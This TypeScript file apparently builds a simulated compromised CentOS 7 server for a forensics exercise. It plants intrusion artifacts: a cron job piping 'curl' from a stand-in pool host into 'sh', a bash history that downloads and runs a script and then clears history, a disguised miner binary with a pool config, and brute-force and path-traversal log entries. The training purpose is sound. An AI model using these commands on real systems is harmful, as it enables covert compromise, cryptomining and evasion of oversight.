import type { Planter } from '../files/planter.ts';
import type { UnixProfile } from './unix-profile.ts';

/** What a CentOS 7 server has, and what an intruder left on it. */
export function plantLinux(planter: Planter, profile: UnixProfile): void {
  const { spec, bootTime } = profile;
  for (const path of [
    '/boot/grub2',
    '/dev/shm',
    '/media',
    '/mnt',
    '/proc',
    '/root/.ssh',
    '/run',
    '/srv',
    '/sys',
    '/tmp',
    '/usr/bin',
    '/usr/lib64',
    '/usr/local/bin',
    '/usr/sbin',
    '/usr/share',
    '/var/cache',
    '/var/lib',
    '/var/spool/cron',
    '/var/tmp',
  ])
    planter.directory(path);
  planter.text('/etc/hostname', `${spec.hostname}\n`);
  planter.text('/etc/hosts', `127.0.0.1 localhost localhost.localdomain\n${spec.address} ${spec.hostname}\n`);
  const [name = 'Linux', version = ''] = profile.product.split(/ (?=\d)/);
  planter.text('/etc/os-release', `NAME="${name}"\nVERSION="${version}"\nPRETTY_NAME="${profile.product}"\n`);
  planter.text('/etc/passwd', passwd(profile));
  planter.text('/etc/shadow', 'root:!!:17700:0:99999:7:::\n');
  planter.text('/etc/resolv.conf', 'search example.invalid\nnameserver 192.0.2.53\n');
  planter.text('/etc/ssh/sshd_config', 'Port 22\nPermitRootLogin no\nPasswordAuthentication yes\n');
  planter.text('/etc/crontab', 'SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\n');
  planter.text(
    '/etc/cron.d/0update',
    '*/5 * * * * nginx curl -fsSL http://pool.example.invalid/x.sh | sh\n',
    'utf8',
    { written: bootTime + 480 },
  );
  for (const unit of ['crond', 'nginx', 'sshd', 'auditd', 'cbdaemon', 'rsyslog', 'postgresql-9.6']) {
    planter.text(
      `/usr/lib/systemd/system/${unit}.service`,
      `[Unit]\nDescription=${unit}\n[Service]\nExecStart=/usr/sbin/${unit}\n`,
    );
  }
  planter.text(
    '/usr/lib/systemd/system/logrotate.timer',
    '[Unit]\nDescription=Daily rotation of log files\n[Timer]\nOnCalendar=daily\nUnit=logrotate.service\n',
  );
  for (const name of ['systemd', 'systemd-journald', 'systemd-udevd']) {
    planter.program(`/usr/lib/systemd/${name}`, {
      executable: true,
    });
  }
  for (const name of ['auditd', 'crond', 'rsyslogd', 'cbdaemon', 'sshd', 'nginx'])
    planter.program(`/usr/sbin/${name}`, { executable: true });
  for (const name of ['bash', 'vim', 'python', 'perl', 'gzip', 'ssh', 'curl', 'gdb', 'dbus-daemon'])
    planter.program(`/usr/bin/${name}`, { executable: true });
  plantLogs(planter, profile);
  plantHome(planter, profile);
  planter.program('/tmp/.X11-unix/.x/kswapd0', {
    executable: true,
    written: bootTime + 498,
  });
  planter.text(
    '/tmp/.X11-unix/.x/config.json',
    '{"pools":[{"url":"pool.example.invalid:3333"}],"cpu-affinity":null}\n',
    'utf8',
    { written: bootTime + 498 },
  );
  planter.program('/dev/shm/evil', { executable: true, written: bootTime + 630 });
}

function plantLogs(planter: Planter, { bootTime, user, spec }: UnixProfile): void {
  const host = spec.hostname.split('.')[0];
  const stamp = (seconds: number) => new Date((bootTime + seconds) * 1000).toUTCString().slice(5, 25);
  const lines = (count: number, text: (index: number) => string) =>
    Array.from({ length: count }, (_, index) => `${stamp(index * 20)} ${host} ${text(index)}\n`).join('');
  planter.text(
    '/var/log/messages',
    lines(40, (index) => `systemd: Started unit ${index}.`),
    'utf8',
    { written: bootTime + 800 },
  );
  planter.text(
    '/var/log/secure',
    lines(
      25,
      (index) =>
        `sshd[${1400 + index}]: Failed password for invalid user admin${index} from 203.0.113.${index + 9} port ${40_000 + index} ssh2`,
    ) + lines(1, () => `sshd[1500]: Accepted password for ${user} from 203.0.113.77 port 51812 ssh2`),
    'utf8',
    { written: bootTime + 700 },
  );
  planter.text(
    '/var/log/cron',
    lines(5, () => 'CROND[1800]: (nginx) CMD (curl -fsSL http://pool.example.invalid/x.sh | sh)'),
    'utf8',
    { written: bootTime + 780 },
  );
  planter.text(
    '/var/log/nginx/access.log',
    lines(
      60,
      (index) => `203.0.113.${index % 50} "GET /index.php?page=../../etc/passwd HTTP/1.1" 200 ${900 + index}`,
    ),
  );
  planter.text(
    '/var/log/cblr.log',
    lines(5, () => 'cbdaemon: check-in complete'),
  );
  planter.binary('/var/log/wtmp', 38_400, new Uint8Array(0));
  planter.binary('/var/log/journal/system.journal', 8_388_608, Buffer.from('LPKSHHRH'));
}

function plantHome(planter: Planter, { home, bootTime, user }: UnixProfile): void {
  planter.text(`${home}/.bashrc`, 'alias ll="ls -l"\n');
  planter.text(
    `${home}/.bash_history`,
    'sudo su -\nwget http://pool.example.invalid/x.sh\nchmod +x x.sh\n./x.sh\nhistory -c\n',
    'utf8',
    { written: bootTime + 470 },
  );
  planter.text(
    `${home}/.ssh/authorized_keys`,
    `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample ${user}@laptop\n`,
  );
  planter.text(`${home}/notes.txt`, 'upgrade nginx – überfällig\n');
  planter.text(`${home}/x.sh`, '#!/bin/sh\necho installing\nsleep 2\necho done\n', 'utf8', {
    executable: true,
    written: bootTime + 475,
  });
  planter.text('/root/anaconda-ks.cfg', 'install\nkeyboard us\n');
}

function passwd({ user, uid, home }: UnixProfile): string {
  return [
    'root:x:0:0:root:/root:/bin/bash',
    'bin:x:1:1:bin:/bin:/sbin/nologin',
    'dbus:x:81:81:System message bus:/:/sbin/nologin',
    'sshd:x:74:74:Privilege-separated SSH:/var/empty/sshd:/sbin/nologin',
    'nginx:x:998:996:Nginx web server:/var/lib/nginx:/sbin/nologin',
    'postgres:x:26:26:PostgreSQL Server:/var/lib/pgsql:/bin/bash',
    `${user}:x:${uid}:${uid}::${home}:/bin/bash`,
    '',
  ].join('\n');
}
